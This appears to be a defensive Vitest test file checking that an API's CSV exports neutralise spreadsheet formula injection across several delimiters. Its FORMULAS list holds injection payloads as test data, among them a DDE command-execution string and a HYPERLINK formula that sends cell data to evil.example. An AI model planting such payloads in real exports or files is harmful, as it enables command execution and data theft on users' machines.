import { afterAll, beforeAll, expect, test } from 'vitest'
import { get } from './case.fixture.ts'
import type { Case } from './case.fixture.ts'
import { FORMULA, cellsOf } from './csv.fixture.ts'
import { serveApi } from './served-api.fixture.ts'
import type { ServedApi } from './served-api.fixture.ts'
import { caseFullOf } from './stored-text.fixture.ts'

let api: ServedApi
const cases: { readonly text: string; readonly made: Case }[] = []

beforeAll(async () => {
  api = await serveApi()
  for (const text of FORMULAS) cases.push({ text, made: await caseFullOf(api, text) })
})

afterAll(() => api.close())

const FORMULAS = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '"=1+1',
  '","=1+1',
  '";=1+1',
  ';=1+1;',
  '";"=1+1";"',
  '\t=1+1\t@x',
  '\uFF1D1+1',
  `'=1+1`,
  '"\r\n=1+1,"',
]

test.each([',', ';', '\t'])(
  '[X10] no cell of an export is a formula, whatever is stored and with %j between cells',
  async (delimiter) => {
    for (const { text, made } of cases) {
      const { sessionId, tokens } = made
      const url = `/api/threads/${sessionId}/export?format=csv`
      const table = await get(api, url, tokens.auditor)
      expect(table.headers['content-type']).toBe('text/csv; charset=utf-8')
      expect(table.headers['content-disposition']).toMatch(/^attachment/)
      const formulas = cellsOf(table.body, delimiter)
        .flat()
        .filter((cell) => FORMULA.test(cell))
      expect(formulas, JSON.stringify(text)).toEqual([])
    }
  },
)

test('[X10] an export holds exactly the stored records', async ({ annotate }) => {
  let cells = 0
  let formulas = 0
  for (const { made } of cases) {
    const { sessionId, tokens } = made
    const url = `/api/threads/${sessionId}/export`
    const lines = (await get(api, url, tokens.auditor)).body.trimEnd().split('\n')
    const table = await get(api, `${url}?format=csv`, tokens.auditor)
    const [names = [], ...rows] = cellsOf(table.body, ',')
    expect(JSON.parse(lines.pop() ?? '')).toEqual({ complete: true, records: lines.length })
    expect(rows.pop()).toContain('complete')
    const at = names.indexOf('data')
    const stored = lines.map((line) => (JSON.parse(line) as { data: unknown }).data)
    expect(rows.map((row) => JSON.parse(row[at] ?? '') as unknown)).toEqual(stored)
    cells += rows.flat().length
    formulas += rows.flat().filter((cell) => FORMULA.test(cell)).length
  }
  await annotate(
    `${formulas} formulas in ${cells.toLocaleString('en')} cells of exports`,
    'promise',
  )
})
